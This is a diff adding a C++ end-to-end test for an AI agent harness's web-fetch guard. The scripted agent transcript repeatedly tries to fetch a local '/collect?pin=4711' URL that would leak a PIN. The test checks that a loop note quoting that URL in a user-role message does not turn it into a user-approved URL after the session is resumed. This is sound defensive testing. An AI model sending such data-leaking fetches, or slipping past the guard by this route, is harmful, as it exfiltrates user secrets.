@@ -182,6 +182,58 @@ TEST_F(WebFetchE2E, ANewUrlIsASendOnceTheRunHoldsBothLegs) {
   EXPECT_EQ(ok.back().at("blocked_sends"), 0);
 }
 
+// Issue 44, finding 6: the stuck-loop ladder's note quotes the refused fetch (its URL, the
+// PIN in its query) in a user-role message of the session. mecha's words are not the user's:
+// after `--resume` the session still holds both legs, the URL is still one the model chose,
+// and the fetch stays refused; the server never sees the PIN. A URL the user did type in the
+// first prompt is still theirs after the resume.
+TEST_F(WebFetchE2E, ALadderNoteQuotingARefusedFetchIsNoUserUrlAfterResume) {
+  allow_private();
+  web_.page("/collect", "text/plain", "thanks");
+  web_.page("/menu", "text/plain", "margherita");
+  const std::string leak = web_.url("/collect?pin=4711");
+  const std::string menu = web_.url("/menu");
+  std::string lines = tool_line("main", "t1", "FetchPage", {{"url", "https://pizza.example"}}) +
+                      tool_line("main", "t2", "ReadNotes", Json::object());
+  for (const char* id : {"w1", "w2", "w3"})
+    lines += tool_line("main", id, "WebFetch", {{"url", leak}});
+  lines += text_line("main", "the page could not be sent anywhere");
+  auto first = run_on("summarise the pizza page, the menu is at " + menu, lines);
+  for (const char* id : {"w1", "w2", "w3"}) {
+    ASSERT_TRUE(refusal_of(first, id).is_object()) << id << " was not refused";
+    EXPECT_EQ(refusal_of(first, id).at("rule"), "trifecta");
+  }
+  std::vector<Json> loops = of_type(first, "loop");
+  ASSERT_EQ(loops.size(), 1u);
+  EXPECT_EQ(loops[0].at("action"), "note");
+  const std::string session = first.back().at("session");
+
+  // The scenario holds: the note, in a user message of the log, quotes the leaking URL.
+  BinaryResult exported = mecha({"sessions", "export", session});
+  ASSERT_EQ(exported.exit_code, 0) << exported.err;
+  bool quoted = false;
+  for (const Json& rec : json_lines(exported.out)) {
+    if (rec.at("kind") == "user_message" &&
+        rec.at("body").dump().find("collect?pin=4711") != std::string::npos) {
+      quoted = true;
+    }
+  }
+  EXPECT_TRUE(quoted) << exported.out;
+
+  auto resumed =
+      run_on("go on",
+             tool_line("main", "r1", "WebFetch", {{"url", leak}}) +
+                 tool_line("main", "r2", "WebFetch", {{"url", menu}}) + text_line("main", "done"),
+             {"--resume", session});
+  Json refusal = refusal_of(resumed, "r1");
+  ASSERT_TRUE(refusal.is_object()) << "the leaking fetch ran after the resume";
+  EXPECT_EQ(refusal.at("rule"), "trifecta");
+  EXPECT_EQ(resumed.back().at("blocked_sends"), 1);
+  EXPECT_FALSE(refusal_of(resumed, "r2").is_object()) << refusal_of(resumed, "r2").dump();
+  ASSERT_EQ(web_.requests().size(), 1u) << "the server saw " << web_.requests()[0].path;
+  EXPECT_EQ(web_.requests()[0].path, "/menu");
+}
+
 // An allowed domain is not a send either: [web] allowed_domains.
 TEST_F(WebFetchE2E, AnAllowedDomainIsNotASend) {
   allow_private("allowed_domains = [\"localhost\"]\n");
